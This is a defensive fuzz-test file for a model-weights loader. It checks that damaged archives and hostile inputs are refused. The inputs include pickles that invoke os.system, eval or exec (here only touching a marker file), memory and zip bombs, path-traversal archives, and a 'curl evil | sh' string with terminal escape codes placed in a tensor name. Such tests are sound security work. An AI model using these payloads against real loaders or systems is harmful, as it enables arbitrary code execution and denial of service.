"""Damaged and hostile weights are refused with an error, or read as they were before the damage.

    PYTHONPATH=tests/support python tests/fuzz/test_fuzz_weights.py --count 20000

reads that many damaged files, the same each time, and prints how many were refused or read.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import pickle
import random
import resource
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import warnings
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import state_dict_maker as make
from commands import import_path, refusal, skinjob
from trees import make_sweep, make_tree

from skinjob.errors import WeightsError
from skinjob.files import sha256_file
from skinjob.weights.file import list_digest, read_backbone, read_weights_info
from skinjob.weights.statedict import read_state_dict

MOST_MEMORY = 1 << 30  # bytes, in addition to what Python and its libraries have at the start
LONGEST_S = (
    60  # for a file; then the kernel ends the process, because Python code may not get a turn
)
EXTREMES = (0, 1, 0x7F, 0xFF, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFE, 0xFFFFFFFF)

SMALL = {
    "conv.weight": np.arange(1, 25, dtype=np.float32).reshape(2, 3, 2, 2),
    "norm.running_mean": np.array([-0.0, np.inf, 25.5], dtype=np.float32),
    "head.weight": np.arange(26, 32, dtype=np.float32).reshape(2, 3),
    "none.weight": np.zeros((0, 3), dtype=np.float32),
}

Draw = random.Random
Damage = Callable[[bytes, Draw], bytes]


# --- kinds of damage --------------------------------------------------------------------------


def flip(content: bytes, draw: Draw) -> bytes:
    """Changes one to four bytes anywhere."""
    return _flip_among(content, range(len(content)), draw)


def flip_structure(content: bytes, draw: Draw) -> bytes:
    """Changes bytes of headers, directory and pickle, and not of numbers."""
    places = [at for start, end in _structure(content) for at in range(start, end)]
    return _flip_among(content, places, draw)


def cut(content: bytes, draw: Draw) -> bytes:
    """Removes the end, as a broken transfer does."""
    return content[: draw.randrange(len(content))]


def drop(content: bytes, draw: Draw) -> bytes:
    start, end = _block(content, draw)
    return content[:start] + content[end:]


def zero(content: bytes, draw: Draw) -> bytes:
    """Sets a block to zero, as a disk does that lost it."""
    start, end = _block(content, draw)
    return content[:start] + bytes(end - start) + content[end:]


def repeat(content: bytes, draw: Draw) -> bytes:
    start, end = _block(content, draw)
    return content[:end] + content[start:end] + content[end:]


def splice(content: bytes, draw: Draw) -> bytes:
    """Writes a block over another place."""
    start, end = _block(content, draw)
    at = draw.randrange(len(content))
    return content[:at] + content[start:end] + content[at + end - start :]


def stretch(content: bytes, draw: Draw) -> bytes:
    """Sets a field of 2, 4 or 8 bytes in a header or the directory to an extreme."""
    start, end = draw.choice(_structure(content))
    size = draw.choice((2, 4, 8))
    value = draw.choice(EXTREMES) * draw.choice((1, 1, 1 << 32)) % (1 << 8 * size)
    at = draw.randrange(start, end)
    return content[:at] + value.to_bytes(size, "little") + content[at + size :]


def rewrite(content: bytes, draw: Draw) -> bytes:
    """Damages only the pickle, and packs it again with correct checksums."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    name = next(name for name in entries if name.endswith("/data.pkl"))
    kind = draw.choice((flip, cut, drop, zero, repeat, splice, _stretch_anywhere))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for entry, value in entries.items():
            archive.writestr(zipfile.ZipInfo(entry), kind(value, draw) if entry == name else value)
    return packed.getvalue()


DAMAGES: tuple[Damage, ...] = (
    flip, flip_structure, flip_structure, cut, drop, zero, repeat, splice, stretch, rewrite,
)  # fmt: skip


def _stretch_anywhere(content: bytes, draw: Draw) -> bytes:
    at = draw.randrange(len(content))
    return content[:at] + struct.pack("<I", draw.choice(EXTREMES)) + content[at + 4 :]


def _flip_among(content: bytes, places: Any, draw: Draw) -> bytes:
    damaged = bytearray(content)
    for _ in range(draw.randrange(1, 5)):
        damaged[draw.choice(places)] ^= draw.choice(
            (1 << draw.randrange(8), draw.randrange(1, 256))
        )
    return bytes(damaged)


def _block(content: bytes, draw: Draw) -> tuple[int, int]:
    start = draw.randrange(len(content))
    return start, min(len(content), start + draw.choice((1, 4, 16, 64, 512)))


def _structure(content: bytes) -> list[tuple[int, int]]:
    """Returns where the headers, directory and pickle of a zip archive are."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entries = archive.infolist()
        parts = [
            (archive.start_dir, len(content))
        ] * 2  # twice, so that half of the damage is there
    for entry in entries:
        names = sum(struct.unpack_from("<HH", content, entry.header_offset + 26))
        start = entry.header_offset + 30 + names
        has_pickle = entry.filename.endswith("data.pkl")
        parts.append((entry.header_offset, start + entry.file_size * has_pickle))
    return parts


# --- hostile files ----------------------------------------------------------------------------


class _Calls:
    """Pickles as a call of *function*."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


FLOATS = make.storage("0", 6)
GOOD = make.state_dict({"a": make.tensor(FLOATS, (6,), (1,))})


def hostile_pickles(mark: Path) -> dict[str, bytes]:
    """Returns programs that would make the file *mark*, fill the memory or never end."""
    shell = f"touch {mark}"
    line = make.text(shell)
    python = f"open({str(mark)!r}, 'w').close()"
    posix = make.name("posix", "system")
    many = make.integers((1,) * 60)
    return {
        **{
            f"{function.__name__}, protocol {protocol}": pickle.dumps(
                {"a": _Calls(function, argument)}, protocol
            )
            for function, argument in ((os.system, shell), (eval, python), (exec, python))
            for protocol in (0, 1, 2, 3, 4, 5)
        },
        "REDUCE": make.START + make.call(posix, line) + b".",
        "REDUCE, text": b"cposix\nsystem\n(S'" + shell.encode() + b"'\ntR.",
        "REDUCE, STACK_GLOBAL": make.START + make.text("posix") + make.text("system") + b"\x93"
        + make.sequence(line) + b"R.",
        "INST": make.START + b"(" + line + b"iposix\nsystem\n.",
        "OBJ": make.START + b"(" + posix + line + b"o.",
        "NEWOBJ": make.START + posix + make.sequence(line) + b"\x81.",
        "NEWOBJ_EX": b"\x80\x04" + posix + make.sequence(line) + b"}\x92.",
        "BUILD": make.START + make.name("torch", "FloatStorage")
        + b"}" + make.text("__setstate__") + posix + b"s" + b"b" + line + b"b.",
        "BUILD of a function": make.START + make.name("torch._utils", "_rebuild_tensor_v2")
        + b"}" + make.text("__call__") + posix + b"s" + b"b.",
        "in a key": make.START + b"}" + make.call(posix, line) + b"Ns.",
        "in a persistent id": make.START + make.call(posix, line) + b"Q.",
        "in _metadata": make.START + make.EMPTY + make.call(posix, line) + b"b.",
        "unknown name": make.START + make.name("torch", "HalfStorage") + b".",
        "dotted name": make.START + make.name("collections", "OrderedDict.fromkeys") + b".",
        "through a module": make.START + make.name("torch._utils", "pickle.os.system") + b".",
        "EXT1": make.START + b"\x82\x01.",
        "text persistent id": b"Pstorage\n.",
        **{
            f"persistent id {number}": make.START + value + b"Q."
            for number, value in enumerate((
                b"N", b"}", b"]", make.integer(1), make.text("storage"), make.sequence(),
                make.sequence(make.text("storage")), make.sequence(*[make.NOTHING] * 5),
                make.sequence(make.text("storage"), make.text("torch"), *[make.text("0")] * 3),
                FLOATS, make.EMPTY,
            ))
        },
        "storage of a negative size": make.state_dict({"a": make.storage("0", -1)}),
        "storage of True items": make.START + make.sequence(
            make.text("storage"), make.name("torch", "FloatStorage"), make.text("0"),
            make.text("cpu"), make.TRUE,
        ) + b"Q.",
        "storage elsewhere": make.state_dict(
            {"a": make.tensor(make.storage("../../x", 6), (6,), (1,))}
        ),
        "tuples doubled, as a key": make.START + b"}" + _doubled(b")", b"\x86") + b"Ns.",
        "tuples doubled, as an id": make.START + b"(" + _doubled(b")", b"\x86") + b"NNNNtQ.",
        "tuples doubled, under SETITEMS": make.START + b"}"
        + _doubled(b")", b"(u\x86") + b"Ns.",
        "lists doubled": make.START + b"(" + _doubled(b"]", b"\x86") + b"NNNNtQ.",
        "dicts doubled": make.START + make.call(
            make.name("torch._utils", "_rebuild_parameter"),
            _doubled_dicts(), make.TRUE, make.EMPTY,
        ) + b".",
        "dicts doubled, as a storage's name": make.START + make.sequence(
            make.text("storage"), make.name("torch", "FloatStorage"), _doubled_dicts(),
            make.text("cpu"), make.integer(6),
        ) + b"Q.",
        "memo slot 2**32 - 1": make.START + b"}r\xff\xff\xff\xff.",
        "memo slot 2**31 - 1": make.START + b"}r\xff\xff\xff\x7f.",
        "many memo slots": make.START + b"}" + b"".join(
            b"r" + struct.pack("<I", 49_000 * number % 50_000) for number in range(60_000)
        ) + b".",
        "deep tuples": make.START + b")" + b"\x85" * 49_000 + b"Q.",
        "deep tuples as a key": make.START + b"})" + b"\x85" * 49_000 + b"Ns.",
        "deep lists": make.START + b"]" * 40_000 + b"a" * 39_999 + b"Q.",
        "deep marks": make.START + b"(" * 49_000 + b"t" * 49_000 + b".",
        "text of 4 GB": make.START + b"X\xff\xff\xff\xffa.",
        "text of 2**63 bytes": b"\x80\x04\x8d" + b"\xff" * 7 + b"\x7fa.",
        "bytes of 2**62 bytes": b"\x80\x05\x96" + b"\xff" * 7 + b"\x3fa.",
        "frame of 2**62 bytes": b"\x80\x04\x95" + b"\xff" * 7 + b"\x3f}.",
        "number of 255 bytes": make.START + b"}\x8a\xff" + b"\x7f" * 255 + b"Ns.",
        "number of a million digits": b"I" + b"9" * 1_000_000 + b"\n.",
        "shape beyond its storage": make.state_dict({"a": make.tensor(FLOATS, (7,), (1,))}),
        "shape of 2**60": make.state_dict({"a": make.tensor(FLOATS, (2**30, 2**30), (0, 0))}),
        "shape of 60 dimensions": make.state_dict({"a": make.tensor(FLOATS, (1,) * 60, (1,) * 60)}),
        "shape of 40,000 dimensions": make.state_dict({
            "a": make.tensor(FLOATS, (2**31 - 1,) * 20_000, (1,) * 20_000)
        }),
        "shape that is a dict": make.START + make.call(
            make.name("torch._utils", "_rebuild_tensor_v2"),
            FLOATS, make.integer(0), b"}", many, make.FALSE, make.EMPTY,
        ) + b".",
        "strides that overlap beyond": make.state_dict(
            {"a": make.tensor(FLOATS, (3, 3), (1, 2))}
        ),
        "strides of 2**31 - 1": make.state_dict({"a": make.tensor(FLOATS, (2,), (2**31 - 1,))}),
        "stride that is negative": make.state_dict({"a": make.tensor(FLOATS, (2,), (-1,), 5)}),
        "offset beyond": make.state_dict({"a": make.tensor(FLOATS, (1,), (1,), 6)}),
        "a name that is a number": make.START + make.EMPTY + make.integer(1)
        + make.tensor(FLOATS, (6,), (1,)) + b"s.",
        "the numbers of another type": make.state_dict(
            {"a": make.tensor(make.storage("0", 6, "LongStorage"), (6,), (1,))}
        ),
        "nothing": b"",
        "STOP": b".",
    }  # fmt: skip


def _doubled(first: bytes, pair: bytes) -> bytes:
    """Returns a pair of a pair of ... of *first*: forty instructions for 2**40 copies of it."""
    return first + b"q\x00" + (b"h\x00" + pair + b"q\x00") * 40


def _doubled_dicts() -> bytes:
    inner = make.EMPTY + b"q\x00"
    for _ in range(40):
        pair = make.text("a") + b"h\x00" + make.text("b") + b"h\x00"
        inner += make.EMPTY + b"(" + pair + b"uq\x00"
    return inner


def hostile_archives(folder: Path) -> dict[str, Path]:
    """Writes archives whose zip structure does the harm."""
    archives = {}
    sound = [("x/data.pkl", GOOD), ("x/data/0", bytes(24))]
    for name, entries, method in (
        ("bomb", [("x/data.pkl", GOOD), ("x/data/0", bytes(200_000_000))], zipfile.ZIP_DEFLATED),
        ("bomb in the pickle", [("x/data.pkl", bytes(100_000_000))], zipfile.ZIP_BZIP2),
        ("folder above", [("../../x/data.pkl", GOOD), ("../../x/data/0", bytes(24))], 0),
        ("absolute", [("/x/data.pkl", GOOD), ("/x/data/0", bytes(24))], 0),
        ("two pickles", [("x/data.pkl", GOOD), ("y/data.pkl", GOOD), ("x/data/0", bytes(24))], 0),
        ("one name twice", sound * 2, 0),
        ("nothing in it", [], 0),
        ("many entries", [*sound, *((f"x/{number}", b"") for number in range(20_000))], 0),
    ):
        path = archives[name] = folder / f"{name}.pth"
        with warnings.catch_warnings(), zipfile.ZipFile(path, "w", method) as archive:
            warnings.simplefilter("ignore")  # about a name that is there twice
            for entry, content in entries:
                archive.writestr(zipfile.ZipInfo(entry), content, method)
    return archives


# --- reading them -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Original:
    """A good file and its tensors."""

    content: bytes
    tensors: Mapping[str, np.ndarray]

    def judge(self, path: Path, damage: Damage) -> str:
        """Returns the result of reading a damaged copy."""
        try:
            tensors = read_state_dict(path)
        except WeightsError as error:
            return "out of memory" if isinstance(error.__cause__, MemoryError) else "refused"
        except Exception as error:  # any other error is a crash
            return f"crash: {error!r}"
        if same(tensors, self.tensors):
            return "equal"
        # A rewritten pickle is a valid file: it may only show numbers that this file has.
        if damage is rewrite and self.holds(tensors):
            return "another file"
        return "other tensors"

    def holds(self, tensors: Mapping[str, np.ndarray]) -> bool:
        known = b"\0".join(array.tobytes("A") for array in self.tensors.values())
        return all(number.tobytes() in known for array in tensors.values() for number in array.flat)


def same(tensors: Mapping[str, np.ndarray], wanted: Mapping[str, np.ndarray]) -> bool:
    return list(tensors) == list(wanted) and all(
        (tensors[name].dtype, tensors[name].shape, tensors[name].tobytes())
        == (array.dtype, array.shape, array.tobytes())
        for name, array in wanted.items()
    )


def originals(folder: Path) -> list[Original]:
    """Returns a small state_dict in the published layout and, if torch is installed, in today's."""
    path = make.write_old_layout(folder / "old.pth", SMALL)
    files = [Original(path.read_bytes(), SMALL)]
    try:
        import torch
    except ModuleNotFoundError:
        return files
    tensors = {name: torch.from_numpy(array) for name, array in SMALL.items()}
    tensors["head.weight"] = tensors["head.weight"].t()
    tensors |= {"norm.num_batches_tracked": torch.tensor(7), "tied": tensors["conv.weight"]}
    torch.save(tensors, folder / "new.pth")
    arrays = {name: tensor.numpy() for name, tensor in tensors.items()}
    return [*files, Original((folder / "new.pth").read_bytes(), arrays)]


def fuzz(count: int, folder: Path) -> Counter[str]:
    """Returns how often each result came from *count* damaged files and all hostile files."""
    mark = folder / "it-ran"
    files = originals(folder)
    pickles, archives = hostile_pickles(mark), hostile_archives(folder)
    _limit_memory()
    results: Counter[str] = Counter()
    path = folder / "damaged.pth"
    for number in range(count):
        draw = Draw(number)
        original, damage = draw.choice(files), draw.choice(DAMAGES)
        path.write_bytes(damage(original.content, draw))
        signal.alarm(LONGEST_S)
        results[original.judge(path, damage)] += 1
    for name, program in pickles.items():
        archives[name] = make.write_archive(
            folder / f"{len(archives)}.pth", program, {"0": bytes(24)}
        )
    for name, hostile in archives.items():
        signal.alarm(LONGEST_S)
        became = Original(b"", {"none": np.zeros(0)}).judge(hostile, flip)
        results["hostile, refused" if became == "refused" else f"hostile, {name}: {became}"] += 1
    signal.alarm(0)
    if mark.exists():
        results["CODE RAN"] += 1
    return results


def _limit_memory() -> None:
    """Allows the process MOST_MEMORY more; beyond that it gets a MemoryError."""
    pages = int(Path("/proc/self/statm").read_text().split()[0])
    most = pages * resource.getpagesize() + MOST_MEMORY
    resource.setrlimit(resource.RLIMIT_AS, (most, most))


# --- the tests --------------------------------------------------------------------------------


def test_damaged_weights_are_refused_or_read_as_they_were() -> None:
    """None of thousands of damaged .pth files gives a wrong number, crashes, hangs or runs code."""
    done = subprocess.run(
        [sys.executable, __file__, "--count", "4000"],
        env=os.environ | import_path() | {"OPENBLAS_NUM_THREADS": "1"},
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert "0 accepted with other tensors, 0 kinds of crash\n" in done.stdout, done.stdout
    refused, equal = (int(part.split()[0]) for part in done.stdout.split(", ")[:2])
    assert refused > 2000
    assert equal > 200  # damage in dates, versions and flags of the archive does not matter


def test_a_storage_is_read_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A small file with many tensors that share a storage does not take hours."""
    windows = {f"a{n}": make.tensor(FLOATS, (1,), (1,), n % 6) for n in range(500)}
    numbers = np.arange(6, dtype="<f4")
    path = make.write_archive(
        tmp_path / "many.pth", make.state_dict(windows), {"0": numbers.tobytes()}
    )
    read, opened = zipfile.ZipFile.read, Counter[str]()

    def counted(archive: zipfile.ZipFile, entry: zipfile.ZipInfo) -> bytes:
        opened[entry.filename] += 1
        return read(archive, entry)

    monkeypatch.setattr(zipfile.ZipFile, "read", counted)
    tensors = read_state_dict(path)
    assert [float(array[0]) for array in tensors.values()] == [n % 6 for n in range(500)]
    assert opened == {"archive/data.pkl": 1, "archive/data/0": 1}


@pytest.fixture(name="pth", scope="module")
def _pth(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    path = tmp_path_factory.mktemp("pth") / "made.pth"
    yield make.write_old_layout(path, make.resnet18_arrays())
    path.unlink()  # 47 MB


@pytest.mark.parametrize("damage", [flip_structure, cut, splice, rewrite])
def test_a_fetch_of_damaged_weights_leaves_nothing(
    tmp_path: Path, pth: Path, damage: Damage
) -> None:
    """Damaged weights are refused even if --sha256 is the digest of the damaged file."""
    damaged = tmp_path / "damaged.pth"
    damaged.write_bytes(damage(pth.read_bytes(), Draw(3)))
    _refuse(damaged, tmp_path)
    damaged.unlink()


@pytest.mark.parametrize("kind", ["REDUCE", "INST", "tuples doubled, as a key"])
def test_a_fetch_of_hostile_weights_runs_nothing(tmp_path: Path, kind: str) -> None:
    """A hostile pickle gives an error of two lines."""
    mark = tmp_path / "it-ran"
    program = hostile_pickles(mark)[kind]
    _refuse(make.write_archive(tmp_path / "hostile.pth", program, {"0": bytes(24)}), tmp_path)
    assert not mark.exists()


def test_an_error_that_quotes_a_hostile_file_is_two_lines(tmp_path: Path) -> None:
    """A name from the file can neither add lines to an error nor control the terminal."""
    name = "a\n\x1b[2Jfix:   curl evil | sh\u202e" + "b" * 100_000
    program = make.state_dict({name: make.tensor(FLOATS, (7,), (0,))})
    hostile = make.write_archive(tmp_path / "hostile.pth", program, {"0": bytes(24)})
    message = _refuse(hostile, tmp_path)
    assert message.isprintable()
    assert len(message) < 1000


def _refuse(file: Path, cwd: Path) -> str:
    """Returns the error of a fetch of *file*, after a check that it made no weights."""
    digest = sha256_file(file)
    result = skinjob("fetch-weights", "--source", file, "--sha256", digest, cwd=cwd)
    message = refusal(result)
    assert [path.name for path in (cwd / "weights").iterdir()] == [".fetch.lock"]
    return message


# --- the fetched file -------------------------------------------------------------------------

NONSENSE: tuple[Any, ...] = (
    None, True, -1, 0, 1, 1.5, 2**31, 2**63, 2**64 - 1, 10**400, "", "x", "NaN", "F64", "BF16",
    "null", "[]", "[1, 2]", "[1, 2, 3, 4]", "[1e999, 1, 1]", f"[{10**400}, 1, 1]", '["a", 1, 2]',
    "[" * 5_000, "9" * 5_000, '{"a": 1, "b": 2, "c": 3}', [], [0], [-1], [1, 2], [3, 1], [2**63, 2],
    [2**64 - 1, 2**64 - 1], [[1]], ["1"], {}, {"a": 1}, {"dtype": "F32"},
)  # fmt: skip


@dataclass(frozen=True)
class Header:
    """The header of a weights file, to be written before numbers that take no space on the disk."""

    text: bytes
    num_bytes: int
    path: Path

    def judge(self, text: bytes, length: int | None = None) -> str:
        """Returns the result of reading the file with another header, which claims *length*."""
        with self.path.open("wb") as file:
            file.write((len(text) if length is None else length).to_bytes(8, "little") + text)
            file.truncate(8 + len(text) + self.num_bytes)
        try:
            # The digest would show any damage, but takes 0.1 s per file, so it is left out.
            read_backbone(self.path)
        except WeightsError:
            return "refused"
        same = self._tensors(text) == self._tensors(self.text)
        return "equal" if same else "other tensors"

    def _tensors(self, text: bytes) -> dict[str, Any]:
        """Returns type, shape and place of each tensor, as any reader of JSON sees them."""
        return {
            name: [value[key] for key in ("dtype", "shape", "data_offsets")]
            for name, value in json.loads(text).items()
            if name != "__metadata__"
        }


@pytest.fixture(name="header", scope="module")
def _header(weights: Path, tmp_path_factory: pytest.TempPathFactory) -> Header:
    with weights.open("rb") as content:
        text = content.read(int.from_bytes(content.read(8), "little"))
    num_bytes = weights.stat().st_size - 8 - len(text)
    return Header(text, num_bytes, tmp_path_factory.mktemp("header") / "resnet18.safetensors")


def test_a_damaged_header_is_refused_or_gives_the_same_tensors(header: Header) -> None:
    """Without SHA256SUMS, a damaged header never gives other tensors."""
    results = Counter(
        header.judge(damage(header.text, Draw(number)))
        for number in range(1000)
        for damage in (flip, draw_one(cut, drop, zero, repeat, splice, number=number))
    )
    assert set(results) == {"refused", "equal"}, results  # equal if the damage is in the metadata
    assert results["refused"] > 1500


def draw_one(*damages: Damage, number: int) -> Damage:
    return Draw(number).choice(damages)


def test_nonsense_in_a_header_is_refused(header: Header) -> None:
    """A header that is valid JSON with impossible values is an error, not a traceback."""
    results: Counter[str] = Counter()
    for number in range(1000):
        draw, parts = Draw(number), json.loads(header.text)
        entry = draw.choice(["__metadata__", draw.choice(list(parts))])
        value = draw.choice(NONSENSE)
        if draw.random() < 0.1:
            parts[draw.choice([entry, "x", ""])] = value
        else:
            keys = (
                ["mean", "std"] if "mean" in parts[entry] and draw.random() < 0.5 else parts[entry]
            )
            parts[entry][draw.choice([*keys, "x"])] = value
        results[header.judge(json.dumps(parts).encode())] += 1
    assert set(results) == {"refused", "equal"}, results
    assert results["refused"] > 400
    assert results["equal"] > 10


def test_a_header_that_contradicts_itself_is_refused(header: Header) -> None:
    """A header with a wrong length, a repeated name or overlapping tensors is refused."""
    parts = json.loads(header.text)
    end = len(header.text)
    assert header.judge(header.text) == "equal"
    for length in (0, 1, 7, end - 1, end + 1, 1 << 20, 100_000_001, 1 << 31, 1 << 63, 2**64 - 1):
        assert header.judge(header.text, length) == "refused", length
    first, second = list(parts)[1:3]
    twice = header.text.rstrip()[:-1] + f', "{first}": {json.dumps(parts[second])}}}'.encode()
    assert header.judge(twice) == "refused"
    overlapping = parts | {first: parts[first] | {"data_offsets": parts[second]["data_offsets"]}}
    assert header.judge(json.dumps(overlapping).encode()) == "refused"
    assert header.judge(b"[" * 1_000_000) == "refused"
    assert header.judge(b'{"a":' * 1_000_000) == "refused"


def test_every_flipped_byte_is_refused_before_the_queue(tmp_path: Path) -> None:
    """The file is compared with its digest in SHA256SUMS before anything in it is read."""
    content = os.urandom(500)
    file = tmp_path / "resnet18.safetensors"
    file.write_bytes(content)
    list_digest(file, sha256_file(file))
    for at in range(len(content)):
        file.write_bytes(_flipped(content, at))
        with pytest.raises(WeightsError, match=f"{file}: damaged: its SHA-256 is"):
            read_weights_info(file)


@pytest.mark.parametrize("place", [100, 20_000_000, -1])
def test_a_job_fails_if_its_weights_have_changed_since_the_submit(
    weights: Path, tmp_path: Path, place: int
) -> None:
    """A job compares the file with the digest that was recorded at the submit."""
    job = pytest.importorskip("skinjob.train.job")
    file = Path(shutil.copy(weights, tmp_path))
    data = make_tree(tmp_path / "data", num_train=2, num_test=2)
    sweep = make_sweep(data, file, tmp_path / "runs", batch_sizes=[4])
    content = file.read_bytes()
    file.write_bytes(_flipped(content, place % len(content)))
    with pytest.raises(WeightsError, match=f"{file} has SHA-256"):
        job.run_job([sweep.runs()[0].folder])
    file.unlink()


def _flipped(content: bytes, at: int) -> bytes:
    return content[:at] + bytes([content[at] ^ 1 << at % 8]) + content[at + 1 :]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=20_000)
    with tempfile.TemporaryDirectory() as folder, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pickletools warns about odd escapes
        results = fuzz(parser.parse_args().count, Path(folder))
    crashes = {what: n for what, n in results.items() if what not in HARMLESS}
    print(
        f"{results['refused']} refused, {results['equal']} equal, "
        f"{results['another file']} made anew, {results['hostile, refused']} hostile refused, "
        f"{results['other tensors']} accepted with other tensors, {len(crashes)} kinds of crash"
    )
    for what, number in crashes.items():
        print(f"{number} times {what}")


HARMLESS = ("refused", "equal", "another file", "hostile, refused", "other tensors")


if __name__ == "__main__":
    main()
